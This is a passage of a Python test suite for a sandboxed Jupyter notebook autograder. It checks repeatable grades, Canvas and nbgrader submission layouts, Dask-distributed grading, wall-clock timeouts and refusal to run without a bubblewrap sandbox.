        assert exported[student] == float(row["score"]), student


def test_grading_twice_gives_the_same_grades(graded, tmp_path) -> None:
    subset = tmp_path / "subset"
    for student in ("honest", "untouched", "patch_allclose", "invalid_json"):
        shutil.copytree(graded["submissions"] / student, subset / student)
    out = tmp_path / "again"
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", A, str(subset), "--out", str(out),
                          "--workers", "2", "--gradebook", f"sqlite:///{tmp_path / 'gb.db'}"],
                         cwd=REPO_ROOT, env=nbgrader_env(), capture_output=True, text=True, timeout=900)
    assert run.returncode == 0, run.stderr[-2000:]
    with (out / "grades.csv").open() as handle:
        again = {row["student_id"]: row for row in csv.DictReader(handle)}
    for student, row in again.items():
        assert row == graded["rows"][student], student


def test_lms_zip_and_nbgrader_layouts(graded, tmp_path) -> None:
    honest = graded["submissions"] / "honest" / "self_attention.ipynb"
    archive = tmp_path / "canvas.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.write(honest, "smithjane_12345_67890_self_attention.ipynb")
        zipped.writestr("doejohn_22222_33333_self_attention.ipynb", "not json")
    layout = tmp_path / "course" / "submitted" / "kim" / A
    layout.mkdir(parents=True)
    shutil.copy(honest, layout / "self_attention.ipynb")
    with __import__("tempfile").TemporaryDirectory() as scratch:
        from_zip = grading.collect(archive, A, "self_attention.ipynb", Path(scratch))
        assert [(s.student_id, s.notebook is not None) for s in from_zip] == [("doejohn", True), ("smithjane", True)]
        from_nbgrader = grading.collect(tmp_path / "course", A, "self_attention.ipynb", Path(scratch))
        assert [s.student_id for s in from_nbgrader] == ["kim"]
        assert from_nbgrader[0].notebook.name == "self_attention.ipynb"


def test_a_dask_cluster_gives_the_same_grades(graded, tmp_path) -> None:
    from dask.distributed import LocalCluster

    subset = tmp_path / "subset"
    for student in ("honest", "untouched", "stray_records"):
        shutil.copytree(graded["submissions"] / student, subset / student)
    with LocalCluster(n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None) as cluster:
        command = [sys.executable, "-m", "autograder", "grade", A, str(subset), "--out", str(tmp_path / "o"),
                   "--scheduler", cluster.scheduler_address, "--gradebook", f"sqlite:///{tmp_path / 'g.db'}"]
        run = subprocess.run(command, cwd=REPO_ROOT, env=nbgrader_env(), capture_output=True, text=True, timeout=900)
    assert run.returncode == 0, run.stderr[-2000:]
    with (tmp_path / "o" / "grades.csv").open() as handle:
        on_dask = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert set(on_dask) == {"honest", "untouched", "stray_records"}
    for student, row in on_dask.items():
        assert row == graded["rows"][student], student


def test_a_worker_on_another_machine_needs_neither_the_files_nor_the_bundle(graded, tmp_path) -> None:
    """What a Dask worker elsewhere gets: the notebook's bytes in the task, and a bundle path it cannot see."""
    notebook = next((graded["submissions"] / "honest").glob("*.ipynb"))
    moved = grading.Submission("honest", tmp_path / "not-on-this-machine.ipynb", data=notebook.read_bytes())
    with grading.tempfile.TemporaryDirectory() as scratch:
        name, source, release, bundle = grading.prepare(A, Path(scratch))
    assert not bundle.exists()
    settings = grading.Settings(A, name, source, release, bundle, sandbox.Limits(wall_seconds=300))
    result = grading.grade_one(moved, settings)
    assert (result.status, result.score) == ("ok", FULL), result.reason
    assert grading.Submission("x", notebook).carried().data == notebook.read_bytes()


def test_a_worker_s_own_bundle_is_removed_when_the_worker_ends(tmp_path) -> None:
    """The bundle a worker builds for itself (it cannot see the command's) lives in its /tmp only while it runs:
    each run of the suite, and each Dask worker elsewhere, used to leave one behind."""
    code = ("import sys; from pathlib import Path; from autograder import grading\n"
            "built = grading._bundle(grading.Settings('x', 'x.ipynb', Path('s'), Path('r'), Path(sys.argv[1]), None))\n"
            "assert (built / 'autograder' / 'checks' / 'index.json').is_file(), built\n"
            "print(built)")
    run = subprocess.run([sys.executable, "-c", code, str(tmp_path / "not-here")], capture_output=True, text=True,
                         timeout=120, cwd=tmp_path)
    assert run.returncode == 0, run.stderr[-2000:]
    built = Path(run.stdout.strip())
    assert built.name.startswith("autograder-bundle-") and not built.exists(), built


def test_a_notebook_killed_at_the_wall_clock_keeps_what_it_earned(tmp_path) -> None:
    """A loop that ignores SIGINT, with a per-cell limit longer than the whole notebook's: SIGKILL at the wall
    clock, and the tests that ran before the loop still count."""
    path = tmp_path / "self_attention.ipynb"
    nbformat.write(_with({"SelfAttention": LOOP}), path)
    with grading.tempfile.TemporaryDirectory() as scratch:
        name, source, release, bundle = grading.prepare(A, Path(scratch))
        settings = grading.Settings(A, name, source, release, bundle, sandbox.Limits(wall_seconds=25, cell_seconds=600))
        result = grading.grade_one(grading.Submission("looper", path), settings)
    assert result.status == "timeout" and "25 s limit" in result.reason and "keep their points" in result.reason
    assert result.score == FULL - SELF_ATTENTION, {g: c.message for g, c in result.cells.items()
                                                   if c.points < c.max_points}


def test_refuses_without_a_working_sandbox(tmp_path) -> None:
    env = {**nbgrader_env(), "PATH": str(Path(sys.executable).parent)}  # no bwrap on this PATH
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", A, str(tmp_path), "--out", str(tmp_path / "o")],
                         cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert run.returncode == 2 and "refusing to grade" in run.stderr and "bubblewrap" in run.stderr
    assert "--no-sandbox" in run.stderr


def test_batch_summary_is_printed(graded) -> None:
    assert f"graded {len(graded['rows'])} submissions of {A}" in graded["log"]
    assert f"[{len(graded['rows'])}/{len(graded['rows'])}]" in graded["log"], "no progress lines"
